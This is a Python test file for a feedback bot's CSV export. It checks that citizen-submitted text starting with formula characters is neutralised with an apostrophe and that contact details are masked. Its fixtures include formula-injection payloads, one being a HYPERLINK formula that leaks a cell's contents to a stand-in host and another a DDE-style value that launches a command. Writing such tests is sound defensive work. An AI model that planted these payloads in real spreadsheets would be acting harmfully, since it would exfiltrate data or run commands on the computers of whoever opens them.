"""`bot feedback export`: a citizen's text never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv

from bot.cli import main

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'


def test_exported_file_marks_formula_text_and_keeps_the_rest(services, tmp_path, capsys):
    hostile = services.feedback.create(sender_id="rest:1", channel="rest", content=HOSTILE,
                                       about="＋1+cmd|' /C calc'!A0", contact="=1+1@mail.vn")
    plain = services.feedback.create(sender_id="telegram:5", channel="telegram", content="Cán bộ hẹn trả chậm",
                                     about="-2+3", contact="0912345678")
    services.feedback.answer(plain.ticket, "@Anh chị vui lòng chờ -2 ngày")
    target = tmp_path / "pakn.csv"

    assert main(["feedback", "export", str(target)], services=services) == 0
    assert "Đã xuất 2 phiếu" in capsys.readouterr().out

    rows = {r["ticket"]: r for r in csv.DictReader(target.open(encoding="utf-8-sig", newline=""))}
    first, second = rows[hostile.ticket], rows[plain.ticket]
    assert first["content"] == "'" + HOSTILE
    assert first["about"] == "'＋1+cmd|' /C calc'!A0"
    assert first["contact"] == "'=1***@mail.vn"
    assert first["answer"] == "" and first["dossier_code"] == ""
    assert second["content"] == "Cán bộ hẹn trả chậm"
    assert second["about"] == "'-2+3"
    assert second["contact"] == "*******678"
    assert second["answer"] == "'@Anh chị vui lòng chờ -2 ngày"
    assert second["created_at"].endswith("+07:00")
    cells = [cell for r in rows.values() for cell in r.values()]
    assert not [c for c in cells if c[:1] in "=+-@＝＋－＠\t\r\n" and c != ""], "a cell still starts like a formula"
